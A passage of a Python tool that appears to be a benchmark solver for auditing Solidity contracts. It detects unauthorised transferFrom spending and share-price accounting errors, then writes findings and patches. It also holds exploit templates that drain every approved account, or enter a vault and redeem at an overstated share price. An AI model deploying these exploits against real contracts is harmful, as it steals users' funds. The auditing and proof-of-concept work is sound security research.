            or words[0].strip("\"'").startswith("transferFrom(")
        )

    def root(self, tokens):
        """Return the name that an expression starts from, through brackets and conversions."""
        for token, after in zip(tokens, [*tokens[1:], Token("", 0)], strict=False):
            casts = token.text in {"address", "payable", "("} or (
                after.text == "(" and token.text in self.view.project.contracts
            )
            if not casts:
                return token.text
        return ""

    def is_chosen(self, tokens, known):
        """Whether the value of an expression is the caller's choice."""
        question = find_mark(tokens, 0, {"?"})
        if question < len(tokens):
            return any(self.is_chosen(part, known) for part in split_at(tokens[question + 1 :], ":"))
        return self.root(tokens) in known.chosen

    @staticmethod
    def is_caller(tokens, known):
        """Whether an expression is the caller's address."""
        words = [word for word in texts(tokens) if word not in {"(", ")", "payable", "address"}]
        return words in (["msg", ".", "sender"], ["_msgSender"]) or (len(words) == 1 and words[0] in known.callers)

    def mentions_caller(self, tokens, known, routine):
        """Whether the caller's address plays a part in an expression, also inside what it calls."""
        words = texts(tokens)
        if " msg . sender " in f" {' '.join(words)} " or "_msgSender" in words or known.callers & set(words):
            return True
        hits = (self.view.called(call, routine) for call in calls_in(tokens))
        return any("sender" in texts(inner.tokens) for hit in hits if hit for inner in self.view.reached(hit[0]))

    def proved(self, condition, known, routine):
        """Return what holds where a condition is true: the caller is allowed (True), or is each of some names."""
        return self.weigh(condition, known, routine, True)

    def refuted(self, condition, known, routine):
        """Return what holds where a condition is false."""
        return self.weigh(condition, known, routine, False)

    def weigh(self, condition, known, routine, truth):
        """Return what a condition's truth or falsity says of the caller."""
        tokens = self.bare(condition)
        for mark, every in (("||", truth), ("&&", not truth)):
            parts = split_at(tokens, mark)
            if len(parts) > 1:
                proofs = [self.weigh(part, known, routine, truth) for part in parts]
                return self.joined(proofs, every)
        if tokens and tokens[0].text == "!":
            return self.weigh(tokens[1:], known, routine, not truth)
        return self.atom(tokens, known, routine, truth)

    @staticmethod
    def joined(proofs, every):
        """Return what all proofs share (every) or what any of them gives."""
        if every:
            names = [proof for proof in proofs if proof is not True]
            if not all(proofs):
                return set()
            return set.union(*names) if names else True
        return True if True in proofs else set().union(*proofs)

    @staticmethod
    def bare(tokens):
        """Return an expression without brackets around it all."""
        while tokens and tokens[0].text == "(" and closing(tokens, 0) == len(tokens) - 1:
            tokens = tokens[1:-1]
        return tokens

    def atom(self, tokens, known, routine, truth):
        """Return what a comparison or a look-up says of the caller."""
        equal = split_at(tokens, "==" if truth else "!=")
        if len(equal) == 2:
            return self.equality(equal, known, routine)
        compares = any(find_mark(tokens, 0, {mark}) < len(tokens) for mark in ("==", "!=", "<", ">", "<=", ">="))
        if compares or not truth or not calls_or_looks_up(tokens):
            return set()
        return self.mentions_caller(tokens, known, routine) or set()

    def equality(self, sides, known, routine):
        """Return what the equality of two sides says of the caller."""
        for one, other in (sides, sides[::-1]):
            if self.is_caller(one, known):
                root = self.root(other)
                if root in known.chosen:
                    return {root}
                return texts(other) not in (["tx", ".", "origin"], ["address", "(", "0", ")"])
            if any(re.search("recover", call.name, re.IGNORECASE) for call in calls_in(one)):
                return True
            if texts(other) == ["true"] and calls_or_looks_up(one) and self.mentions_caller(one, known, routine):
                return True
        return set()

    @staticmethod
    def leaves_always(body):
        """Whether a branch ends in a revert or return."""
        last = body[-1] if body else None
        while last is not None and last.kind == "block":
            last = last.bodies[0][-1] if last.bodies[0] else None
        return (
            last is not None
            and last.kind == "plain"
            and texts(last.tokens)[:1] in (["revert"], ["return"], ["throw"])
        )


def calls_or_looks_up(tokens):
    """Whether an expression calls something or looks something up."""
    return bool({"(", "["} & set(texts(tokens)))


# -- audits: what a share is worth --------------------------------------------------------------------------------

PAYS = {"transfer", "safeTransfer", "send", "sendValue", "call", "functionCallWithValue"}
DIVIDES = re.compile(r"muldiv|^div|wdiv|fdiv", re.IGNORECASE)
ANY_TOKEN = "*"


class ShareAudit:
    """Looks for debts that a vault pays from its balance and yet counts among what its shares are worth."""

    def __init__(self, view):
        self.view = view
        self.functions = [r for r in view.routines if r.kind == "function" and r.tokens]

    def findings(self):
        """Return (valuation, debt, where it grows, where it is paid) for every debt that is counted as an asset."""
        found = []
        for valuation in self.functions:
            held = self.held(valuation)
            if not held or not valuation.is_view or not self.prices_shares(valuation):
                continue
            supplies = self.supplies(valuation)
            for debt in self.debts(supplies):
                grows, paid, tokens = self.life_of(debt, supplies)
                if (
                    grows
                    and paid
                    and (tokens & held or ANY_TOKEN in tokens | held)
                    and not self.counted(valuation, debt)
                ):
                    found.append((valuation, debt, grows[0], paid[0]))
        return found

    def held(self, routine):
        """Return the tokens whose balance, as this contract holds it, a function reads."""
        found = set()
        for call in calls_in(routine.tokens):
            words = [word for arg in call.args for word in texts(arg)]
            if call.name == "balanceOf" and call.receiver and words == ["address", "(", "this", ")"]:
                found.add(token_root(call.receiver))
            if (
                texts(call.receiver) == ["super"]
                and self.view.called(call, routine) is None
                and call.name == routine.name
            ):
                found.add(ANY_TOKEN)
        if "address ( this ) . balance" in " ".join(texts(routine.tokens)):
            found.add("native")
        return found

    def callers(self, valuation):
        """Return the view functions that get to the valuation, itself among them."""
        return [f for f in self.functions if f.is_view and valuation in self.view.reached(f, only_views=True)]

    def prices_shares(self, valuation):
        """Whether amounts are converted at the rate of the valuation."""
        if any("4626" in base for base in self.view.project.foreign_bases(self.view.contract)):
            return True
        return bool(self.conversions(valuation))

    def conversions(self, valuation):
        """Return the functions that use the valuation and divide."""
        names = {f.name for f in self.callers(valuation)}
        found = []
        for function in self.functions:
            calls = calls_in(function.tokens)
            divides = "/" in texts(function.tokens) or any(DIVIDES.search(call.name) for call in calls)
            if divides and any(not call.receiver and call.name in names for call in calls):
                found.append(function)
        return found

    def supplies(self, valuation):
        """Return the variables that count shares: read where amounts are converted, grown and shrunk elsewhere."""
        read = {word for f in self.conversions(valuation) for word in texts(f.tokens)}
        signs = {}
        for _, tokens in self.changes():
            name, sign, _ = assignment(tokens)
            signs.setdefault(name, set()).add(sign)
        return {name for name in read & self.scalars() if {"+=", "-="} <= signs.get(name, set())}

    def scalars(self):
        """Return the state variables that are numbers."""
        return {name for name, kind in self.view.variables.items() if re.match(r"uint\d*\b(?! \[)", kind)}

    def changes(self):
        """Return every statement that assigns to a numeric state variable, with its function."""
        scalars = self.scalars()
        pairs = ((f, s.tokens) for f in self.functions for s in all_statements(f.body) if s.kind == "plain")
        return [(f, tokens) for f, tokens in pairs if (made := assignment(tokens)) and made[0] in scalars]

    def debts(self, supplies):
        """Return the numbers that could be owed: grown by some function, and not counting shares."""
        grown = {made[0] for _, tokens in self.changes() if self.grows(made := assignment(tokens))}
        return sorted(grown - supplies)

    @staticmethod
    def grows(made):
        """Whether an assignment adds to what it assigns to."""
        name, sign, value = made
        return sign == "+=" or (sign == "=" and name in texts(value) and "+" in texts(value))

    def life_of(self, debt, supplies):
        """Return the functions where a debt grows, those that pay it off, and the tokens they pay in."""
        changed = [(f, assignment(tokens)) for f, tokens in self.changes() if assignment(tokens)[0] == debt]
        grows = [f for f, made in changed if self.grows(made) and not self.moves_shares(f, supplies)]
        paid, tokens = [], set()
        for function, made in changed:
            out = (
                set() if self.grows(made) or self.moves_shares(function, supplies) else self.paid_out(function, debt)
            )
            paid += [function] if out else []
            tokens |= out
        return grows, paid, tokens

    def moves_shares(self, function, supplies):
        """Whether a function mints or burns shares."""
        for inner in self.view.reached(function):
            if any(call.name in {"_mint", "_burn"} for call in calls_in(inner.tokens)):
                return True
            made = (assignment(s.tokens) for s in all_statements(inner.body) if s.kind == "plain")
            if any(each and each[0] in supplies for each in made):
                return True
        return False

    def counts(self, function, supplies, sign):
        """Whether a function, or what it calls, changes the number of shares by this sign."""
        statements = (s.tokens for f in self.view.reached(function) for s in all_statements(f.body))
        made = [each for tokens in statements if (each := assignment(tokens))]
        return any(name in supplies and found == sign for name, found, _ in made)

    def paid_out(self, function, debt):
        """Return the tokens in which a function pays out what a debt amounts to."""
        amounts, out = {debt}, set()
        for statement in all_statements(function.body):
            made = assignment(statement.tokens)
            if made and made[1] == "=" and debt in texts(made[2]):
                amounts.add(made[0])
            if made and made[0] == debt and made[1] == "-=" and len(made[2]) == 1:
                amounts.add(made[2][0].text)
        for call in calls_in(function.tokens):
            if any(amounts & set(texts(arg)) for arg in call.args):
                out |= self.pays_in(call, function)
        return out

    def pays_in(self, call, function):
        """Return the tokens that a call pays out of this contract."""
        if call.name in PAYS and call.receiver:
            return {token_root(call.receiver)} if len(call.args) > 1 else {"native"}
        hit = self.view.called(call, function)
        inner = self.view.reached(hit[0]) if hit else []
        each = (c for routine in inner for c in calls_in(routine.tokens) if c.name in PAYS and c.receiver)
        return {token_root(c.receiver) for c in each}

    def counted(self, valuation, debt):
        """Whether some view on the way from the valuation to a price, or a price itself, knows of the debt."""
        names = {f.name for f in self.callers(valuation)}
        known = [inner for f in self.callers(valuation) for inner in self.view.reached(f, only_views=True)]
        if any(debt in texts(f.tokens) for f in known):
            return True
        statements = (s.tokens for f in self.functions for s in all_statements(f.body))
        return any(debt in texts(tokens) and names & {c.name for c in calls_in(tokens)} for tokens in statements)


def token_root(tokens):
    """Return the name of the token that a call is made on, through a conversion to its interface."""
    words = [word for word in texts(tokens) if is_identifier(word)]
    return words[-1] if words else ANY_TOKEN


# -- audits: the report -------------------------------------------------------------------------------------------


def audit(folder, proves=False):
    """Return the vulnerabilities in a folder's Solidity files, each as a report has it, with proofs where asked."""
    project, found = Project(folder), {}
    for contract in project.leaves():
        view = View(project, contract)
        for entry, pulls in SpendAudit(view).findings():
            poc = spend_exploit(view, entry, roles_of(view, entry), [POC_ENTRY], folder) if proves else ""
            found.setdefault((entry.file, entry.line, "spend"), with_poc(report_spend(entry, pulls), poc))
        for valuation, debt, grows, paid in ShareAudit(view).findings():
            poc = share_exploit(view, valuation, folder) if proves else ""
            finding = with_poc(report_share(valuation, debt, grows, paid), poc)
            found.setdefault((valuation.file, valuation.line, debt), finding)
    return list(found.values())


def with_poc(finding, poc):
    """Return a finding, with its proof of concept if there is one."""
    return {**finding, "poc": poc} if poc else finding


def report_spend(entry, pulls):
    """Return the finding of a function that spends from an account its caller names."""
    where = ", ".join(sorted({f"{routine.file}:{line}" for routine, line in pulls}))
    return {
        "title": f"Anyone can spend other accounts' approved tokens through {entry.name}",
        "description": (
            f"{entry.contract}.{entry.name} can be called by anyone and takes the account that pays as an argument, "
            f"which is never compared with msg.sender and needs no authorization before it becomes the source of a "
            f"token transfer ({where}). So an attacker can drain every account that has approved this contract."
        ),
        "severity": "high",
        "vulnerability_type": "access control / arbitrary from in transferFrom",
        "file": entry.file,
        "location": f"{entry.contract}.{entry.name}",
        "confidence": 0.9,
    }


def report_share(valuation, debt, grows, paid):
    """Return the finding of a debt that is counted among the assets behind shares."""
    return {
        "title": f"{valuation.name} counts the uncollected {debt} as assets of the shareholders",
        "description": (
            f"{grows.name} adds to {debt}, a fee or debt that {paid.name} later pays out of its own balance. "
            f"Until then {valuation.contract}.{valuation.name} includes that amount: it reads the whole balance "
            f"and does not subtract {debt}. The share price is overstated: who deposits before {paid.name} overpays, "
            "and who redeems before it is paid too much at the expense of those who stay."
        ),
        "severity": "high",
        "vulnerability_type": "accounting error",
        "file": valuation.file,
        "location": f"{valuation.contract}.{valuation.name}",
        "confidence": 0.8,
    }


# -- audits: proving it ---------------------------------------------------------------------------------------------

EXPLOIT = """\
// SPDX-License-Identifier: MIT
{pragma}

interface Token {{
    function balanceOf(address account) external view returns (uint256);
}}

interface Faulty {{
    function {called}({kinds}) external;
}}

/// Spends what others have approved to {contract}: {called} lets its caller name who pays.
contract Exploit {{
{entries}
    function spend(address faulty, address token, address payer) external {{
        uint256 amount = Token(token).balanceOf(payer);
        require(amount > 0, "nothing to take");
        Faulty(faulty).{called}({arguments});
    }}
}}
"""
ENTRY = """\
    function {name}({parameters}) external {{
        address[{count}] memory given = [{given}];
        for (uint256 i = 0; i < {count}; i++)
            for (uint256 j = 0; j < {count}; j++)
                for (uint256 k = 0; k < {count}; k++)
                    if (i != j && j != k && k != i) try this.spend(given[i], given[j], given[k]) {{}} catch {{}}
    }}
"""
POC_ENTRY = """\
    function attack(uint256, address[] calldata contracts, address[] calldata tokens, address[] calldata users)
        external
    {{
        for (uint256 i = 0; i < contracts.length; i++)
            for (uint256 j = 0; j < tokens.length; j++)
                for (uint256 k = 0; k < users.length; k++)
                    try this.spend(contracts[i], tokens[j], users[k]) {{}} catch {{}}
    }}
""".format()
SHARES = """\
// SPDX-License-Identifier: MIT
{pragma}

interface Token {{
    function balanceOf(address account) external view returns (uint256);
    function approve(address spender, uint256 amount) external returns (bool);
}}

interface Faulty {{
{declared}
}}

/// Holds shares of {contract} from the first day on, and leaves on the second, when a debt has made them dearer.
contract Exploit {{
    function attack(uint256 round, address[] calldata contracts, address[] calldata tokens, address[] calldata)
        external
    {{
        for (uint256 i = 0; i < contracts.length; i++)
            if (round > 0) leave(contracts[i]);
            else for (uint256 j = 0; j < tokens.length; j++) try this.enter(contracts[i], tokens[j]) {{}} catch {{}}
    }}

    function enter(address faulty, address token) external {{
        uint256 amount = Token(token).balanceOf(address(this));
        Token(token).approve(faulty, amount);
        Faulty(faulty).{entered}(amount);
    }}

    function leave(address faulty) private {{
        uint256 shares;
        try Token(faulty).balanceOf(address(this)) returns (uint256 held) {{ shares = held; }} catch {{ return; }}
{left}
    }}
}}
"""
SIMPLE_TYPE = re.compile(r"(?:u?int\d*|bool|bytes\d+|address(?: payable)?)\Z")


def write_exploit(task, folder):
    """Return an exploit of the first entry that spends from an account its caller names, "" where there is none.

    Which of the addresses it is given is the contract, the token and the payer, it finds out on the chain.
    """
    project = Project(folder)
    entries = [entry_function(*declared, project) for declared in re.findall(r"`(\w+)\(([^`]*)\)`", task)]
    for view, entry, roles in spends(project) if entries and all(entries) else ():
        exploit = spend_exploit(view, entry, roles, entries, folder)
        if exploit:
            return exploit
    return ""


def spend_exploit(view, entry, roles, entries, folder):
    """Return a contract that spends through an entry, "" where that could not gain or cannot be called simply."""
    kinds = [plain_type(kind, view.project) for kind, _ in entry.params]
    if PAYEE not in roles.values() or not all(kinds):
        return ""
    arguments = [argument_for(roles.get(name), kind) for (_, name), kind in zip(entry.params, kinds, strict=True)]
    return EXPLOIT.format(
        pragma=pragma_of(folder / entry.file),
        called=entry.name,
        contract=view.contract.name,
        kinds=", ".join(kinds),
        arguments=", ".join(arguments),
        entries="\n".join(entries),
    )


def share_exploit(view, valuation, folder):
    """Return a contract that takes shares and leaves with more than it brought, "" where it cannot come or go."""
    audit = ShareAudit(view)
    supplies, entries = audit.supplies(valuation), view.entries()
    enters = [e for e in entries if takes_amount(e) and audit.counts(e, supplies, "+=")]
    leaves = [e for e in entries if takes_amount(e) and audit.counts(e, supplies, "-=")]
    after = [e for e in entries if not e.params and not e.is_view]
    if not enters or not leaves:
        return ""
    calls = [(e, "shares" if e.params else "") for e in (*leaves, *after)]
    return SHARES.format(
        pragma=pragma_of(folder / valuation.file),
        contract=view.contract.name,
        declared="\n".join(
            f"    function {e.name}({'uint256' if e.params else ''}) external;" for e in (enters[0], *leaves, *after)
        ),
        entered=enters[0].name,
        left="\n".join(f"        try Faulty(faulty).{e.name}({given}) {{}} catch {{}}" for e, given in calls),
    )


def takes_amount(entry):
    """Whether an entry takes one number and nothing else."""
    return [kind for kind, _ in entry.params] in (["uint256"], ["uint"])


def pragma_of(path):
    """Return the pragma of a file."""
    pragma = re.search(r"pragma solidity[^;]*;", path.read_text(encoding="utf-8"))
    return pragma[0] if pragma else "pragma solidity *;"


def spends(project):
    """Yield (view, entry, roles) of every unprotected spend; a parameter's role is where in a transfer it ends."""
    for contract in project.leaves():
        view = View(project, contract)
        for entry, _ in SpendAudit(view).findings():
            yield view, entry, roles_of(view, entry)


def roles_of(view, entry):
    """Return where in a transfer each parameter of an entry ends."""
    places = [(name, place) for _, name in entry.params if name for place in (TOKEN, AMOUNT, PAYEE, PAYER)]
    return {name: place for name, place in places if SpendAudit(view, place).reaches(entry, name)}


def entry_function(name, parameters, project):
    """Return an entry function as a task declares it, "" where it takes what is no address or number."""
    declared = [read_param(part) for part in split_at(solidity_tokens(parameters), ",")]
    kinds = [plain_type(kind, project) for kind, _ in declared]
    given = [name for kind, (_, name) in zip(kinds, declared, strict=True) if kind == "address"]
    if not all(kinds) or len(given) < 3:
        return ""
    parameters = ", ".join(f"{kind} {name}" for kind, (_, name) in zip(kinds, declared, strict=True))
    return ENTRY.format(name=name, parameters=parameters, count=len(given), given=", ".join(given))


def plain_type(kind, project):
    """Return how a type is called from outside, "" for arrays, structs and what else has no such simple name."""
    if kind in project.contracts:
        return "address"
    return kind.replace(" payable", "") if SIMPLE_TYPE.match(kind) else ""


def argument_for(role, kind):
    """Return what the exploit gives for a parameter."""
    known = {TOKEN: "token", PAYER: "payer", PAYEE: "address(this)", AMOUNT: "amount"}
    other = {"address": "address(this)", "bool": "true"}
    return known.get(role) or other.get(kind) or (f"{kind}(0)" if kind.startswith("bytes") else "0")


def write_patch(folder):
    """Return a patch of all that the audit finds and can be mended where it stands: whole files by path, as JSON."""
    project, sources = Project(folder), {}

    def source(file):
        return sources.get(file) or (folder / file).read_text(encoding="utf-8")

    for view, entry, roles in spends(project):
        payers = [name for name, place in roles.items() if place == PAYER]
        checks = "".join(f'\n        require({check_of(name, entry, view)}, "not the payer");' for name in payers)
        sources[entry.file] = with_check(source(entry.file), entry, checks)
    for contract in project.leaves():
        for valuation, debt, _, _ in ShareAudit(View(project, contract)).findings():
            sources[valuation.file] = without_debt(source(valuation.file), valuation, debt)
    return json.dumps(sources, indent=2) if sources else ""


def check_of(payer, entry, view):
    """Return the condition under which a caller may name this payer.

    Where the contract calls the function itself it has its own rules by then; only calls from outside are held to it.
    """
    internal = any(
        not call.receiver and call.name == entry.name for r in view.routines for call in calls_in(r.tokens)
    )
    own = f"msg.sender == {payer}"
    return f"msg.sig != this.{entry.name}.selector || {own}" if internal else own


def with_check(source, entry, checks):
    """Return a source with statements at the beginning of a function."""
    start, end = body_of(source, entry)
    already = source[start:end].startswith(checks)
    return source if already else source[:start] + checks + source[start:]


def without_debt(source, valuation, debt):
    """Return a source in which what a function returns is less by a debt."""
    start, end = body_of(source, valuation)
    body = re.sub(r"\breturn\s+([^;]+);", rf"return (\1) - {debt};", source[start:end])
    return source[:start] + body + source[end:]


def body_of(source, routine):
    """Return where in a source the body of a routine starts and ends, without its braces."""
    depth, started, opened = 0, False, 0
    for match in SOLIDITY_TOKEN.finditer(source):
        if match.lastgroup == "skip":
            continue
        text, line = match.group(), source.count("\n", 0, match.start()) + 1
        started = started or (text == routine.kind and line == routine.line)
        depth += started * ((text == "{") - (text == "}"))
        if started and text == "{" and depth == 1:
            opened = match.end()
        if opened and depth == 0:
            return opened, match.start()
    return len(source), len(source)


# -- either --------------------------------------------------------------------------------------------------------


def answer(task, folder):
    """Return what to print: a proof or a report where there is Solidity, else Python source."""
    if not any(folder.rglob("*.sol")):
        return write_code(task)
    if "contract named Exploit" in task:
        return write_exploit(task, folder)
    if "Print a unified diff" in task:
        return write_patch(folder)
    return json.dumps({"vulnerabilities": audit(folder, "function attack(uint256 round" in task)}, indent=2)


def main():
    """Read the task and print the answer."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--task", required=True, help="what to do")
    print(answer(parser.parse_args().task, Path.cwd()))


if __name__ == "__main__":
    main()
